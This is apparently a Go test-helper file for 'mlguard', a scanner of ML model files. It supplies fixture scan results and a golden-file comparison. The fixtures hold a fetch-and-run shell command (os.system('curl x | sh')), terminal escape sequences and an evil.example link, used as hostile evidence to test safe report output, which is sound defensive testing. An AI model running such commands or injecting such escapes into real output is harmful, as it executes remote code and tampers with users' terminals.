// Package reporttest holds the results and the golden-file helper that the
// reporter tests share, so that every output format is checked against the
// same inputs.
package reporttest

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/mlguard/mlguard/internal/finding"
)

// HostileEvidence has what a poisoned model can put in a string: newlines, an
// ANSI escape sequence that recolours a terminal, a C1 control and bytes that
// are not UTF-8.
const HostileEvidence = "os.system('curl x | sh')\n\x1b[31mred\x1b[0m \u009b2J\xff\xfe"

// Empty is a passing result with one file scanned and nothing found.
func Empty() *finding.Result {
	return &finding.Result{
		Tool:     finding.Tool{Name: "mlguard", Version: "0.1.0"},
		Decision: finding.Pass,
		Files:    []finding.File{{Path: "models/ok.safetensors", Format: "safetensors", Size: 64}},
	}
}

// Full is a failing result with a finding of every severity, one inside an
// archive member with hostile evidence, a scan/incomplete finding, a path that
// needs percent-encoding in a URI and skipped files.
func Full() *finding.Result {
	dangerous := finding.New(finding.PickleDangerousGlobal, "pickle calls os.system [see](https://evil.example)")
	dangerous.Path = "models/a.pt"
	dangerous.Member = "archive/data.pkl"
	dangerous.Offset = 42
	dangerous.Evidence = HostileEvidence

	incomplete := finding.New(finding.ScanIncomplete, "zip member is truncated after 100 of 4096 bytes")
	incomplete.Path = "models/a.pt"
	incomplete.Member = "archive/data/0"

	callable := finding.New(finding.PickleUnknownCallable, "pickle calls mymod.Builder")
	callable.Path = "models/my model.pkl"
	callable.Offset = 7
	callable.Evidence = "mymod.Builder()"

	global := finding.New(finding.PickleUnknownGlobal, "pickle imports mymod.Config")
	global.Path = "models/my model.pkl"
	global.Offset = 3
	global.Evidence = "mymod.Config"

	trailing := finding.New(finding.PickleTrailingData, "16 bytes after STOP")
	trailing.Path = "models/my model.pkl"
	trailing.Offset = 120

	object := finding.New(finding.NumpyObjectArray, "array has dtype object")
	object.Path = "weights/b.npy"

	r := &finding.Result{
		Tool:     finding.Tool{Name: "mlguard", Version: "0.1.0"},
		Decision: finding.Fail,
		Files: []finding.File{
			{Path: "weights/b.npy", Format: "numpy", Size: 128, SHA256: "b5bb9d8014a0f9b1d61e21e796d78dccdf1352f23cd32812f4850b878ae4944c"},
			{Path: "models/a.pt", Format: "pytorch-zip", Size: 1234, SHA256: "7d865e959b2466918c9863afca942d0fb89d7c9ac0c99bafc3749504ded97730"},
			{Path: "models/my model.pkl", Format: "pickle", Size: 136},
		},
		Skipped: []finding.Skipped{
			{Path: "README.md", Reason: "text"},
			{Path: "img/logo\x1b[2J.png", Reason: "image/png"},
		},
		Findings: []finding.Finding{object, trailing, global, callable, incomplete, dangerous},
	}
	r.Sort()
	return r
}

// Golden compares got with the file testdata/name, or writes the file when
// update is set (go test -update).
func Golden(t *testing.T, name string, got []byte, update bool) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if update {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("reading golden file (run go test -update to create it): %v", err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s mismatch (-want +got):\n%s", path, diff)
	}
}
